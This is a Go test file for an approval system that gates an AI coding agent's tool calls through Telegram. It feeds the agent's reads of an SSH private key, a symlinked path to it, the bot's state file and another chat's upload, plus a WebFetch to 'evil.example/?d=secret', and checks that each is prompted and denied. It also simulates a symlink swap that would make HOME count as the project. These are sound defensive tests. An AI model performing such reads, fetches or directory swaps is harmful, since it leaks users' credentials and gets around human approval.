package telegram_test

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/synctest"

	"github.com/untether/untether/approvals"
	"github.com/untether/untether/engine"
	"github.com/untether/untether/engine/enginetest"
	"github.com/untether/untether/telegram"
)

// TestApprovalReadOutsideProjectAsked: with the default allow list, reads
// in the working directory and in the chat's own upload folder are answered
// at once, while a read of a key in HOME, of the bot's state file (even
// inside the working directory), of another chat's upload, and every
// WebFetch get buttons, the file ones saying "outside the project" with the
// resolved path. Before the path rule, all of them were approved silently.
func TestApprovalReadOutsideProjectAsked(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		base, err := filepath.EvalSymlinks(t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		home, work, uploads := filepath.Join(base, "home"), filepath.Join(base, "work"), filepath.Join(base, "uploads")
		t.Setenv("HOME", home)
		key := filepath.Join(home, ".ssh", "id_ed25519")
		state := filepath.Join(work, "untether.db")
		theirs := filepath.Join(uploads, "999", "b.jpg")
		for _, f := range []string{key, state, theirs, filepath.Join(work, "main.go")} {
			if err := os.MkdirAll(filepath.Dir(f), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.Symlink(key, filepath.Join(work, "innocent.txt")); err != nil {
			t.Fatal(err)
		}

		var mu sync.Mutex
		got := map[string]string{}
		var mine string // the chat's own upload folder, known once the chat id is
		h := newHarness(t, func(tr *enginetest.Turn) {
			tr.Start("m")
			asks := []engine.ApprovalRequest{
				toolReq(t, "inside", "Read", map[string]any{"file_path": filepath.Join(work, "main.go")}),
				toolReq(t, "relative", "Read", map[string]any{"file_path": "main.go"}),
				toolReq(t, "upload", "Read", map[string]any{"file_path": filepath.Join(mine, "a.jpg")}),
				toolReq(t, "key", "Read", map[string]any{"file_path": "~/.ssh/id_ed25519"}),
				toolReq(t, "link", "Read", map[string]any{"file_path": filepath.Join(work, "innocent.txt")}),
				toolReq(t, "state", "Read", map[string]any{"file_path": state}),
				toolReq(t, "theirs", "Read", map[string]any{"file_path": theirs}),
				toolReq(t, "fetch", "WebFetch", map[string]any{"url": "https://evil.example/?d=secret", "prompt": "p"}),
			}
			for _, r := range asks {
				d := tr.Ask(r)
				mu.Lock()
				got[r.RequestID] = decisionWord(d)
				mu.Unlock()
			}
			tr.Complete("reads done")
		}, func(c *telegram.Config) {
			c.WorkDir, c.UploadDir = work, uploads
			c.AllowList = approvals.DefaultAutoApprove()
			c.PrivatePaths = []string{state}
		})
		mine = filepath.Join(uploads, strconv.FormatInt(h.dm.ID, 10))
		h.say("look around")

		for _, tc := range []struct{ id, text, path string }{
			{"key", "id_ed25519", key},
			{"link", "innocent.txt", key},
			{"state", "untether.db", state},
			{"theirs", "b.jpg", theirs},
		} {
			p := h.awaitPrompt(h.dm.ID, "Deny", tc.text)
			if want := "Outside the project: " + tc.path; !strings.Contains(p.Text, want) {
				t.Errorf("prompt for %s lacks %q:\n%s", tc.id, want, p.Text)
			}
			h.toast(h.press(h.user, h.dm, p, "Deny"))
		}
		fetch := h.awaitPrompt(h.dm.ID, "Approve", "evil.example")
		if strings.Contains(fetch.Text, "Outside the project") {
			t.Errorf("a WebFetch prompt talks of the project:\n%s", fetch.Text)
		}
		h.toast(h.press(h.user, h.dm, fetch, "Deny"))
		h.awaitText(h.dm.ID, "reads done")

		mu.Lock()
		defer mu.Unlock()
		want := map[string]string{"inside": "allowed", "relative": "allowed", "upload": "allowed",
			"key": "denied", "link": "denied", "state": "denied", "theirs": "denied", "fetch": "denied"}
		for id, w := range want {
			if got[id] != w {
				t.Errorf("%s: %s, want %s", id, got[id], w)
			}
		}
		for _, m := range h.tg.Messages(h.dm.ID) {
			if len(m.Keyboard) > 0 && (strings.Contains(m.Text, "main.go") || strings.Contains(m.Text, "a.jpg")) {
				t.Errorf("a read inside the project was shown: %q", m.Text)
			}
		}
	})
}

// TestApprovalPathRuleKeepsTheStartedDir: the path rule's working
// directory is the one the process started in, links resolved at start.
// Configured through a link, the project is still the project; when the
// project is then replaced by a link to $HOME while Claude runs there, a
// read of a key in $HOME is asked. Before, the configured name was
// resolved again on every request, so $HOME became "the project" and the
// read was approved.
func TestApprovalPathRuleKeepsTheStartedDir(t *testing.T) {
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, work, alias := filepath.Join(base, "home"), filepath.Join(base, "work"), filepath.Join(base, "project")
	key := filepath.Join(home, ".ssh", "id_ed25519")
	for _, d := range []string{filepath.Dir(key), work} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{key, filepath.Join(work, "main.go")} {
		if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(work, alias); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	got := map[string]string{}
	h := newHarness(t, func(tr *enginetest.Turn) {
		tr.Start("m")
		ask := func(id, p string) {
			d := tr.Ask(toolReq(t, id, "Read", map[string]any{"file_path": p}))
			mu.Lock()
			got[id] = decisionWord(d)
			mu.Unlock()
		}
		ask("main", filepath.Join(alias, "main.go"))
		// What one approved "mv work work.old && ln -s ~ work" does.
		if err := os.Rename(work, work+".old"); err != nil {
			t.Error(err)
		}
		if err := os.Symlink(home, work); err != nil {
			t.Error(err)
		}
		ask("key", filepath.Join(alias, ".ssh", "id_ed25519"))
		tr.Complete("reads done")
	}, func(c *telegram.Config) {
		c.WorkDir = alias
		c.AllowList = approvals.DefaultAutoApprove()
	})
	h.say("look")
	p := h.awaitPrompt(h.dm.ID, "Deny", "id_ed25519")
	h.toast(h.press(h.user, h.dm, p, "Deny"))
	h.awaitText(h.dm.ID, "reads done")
	mu.Lock()
	defer mu.Unlock()
	if got["main"] != "allowed" || got["key"] != "denied" {
		t.Errorf("main.go %s (want allowed), the key %s (want denied)", got["main"], got["key"])
	}
}
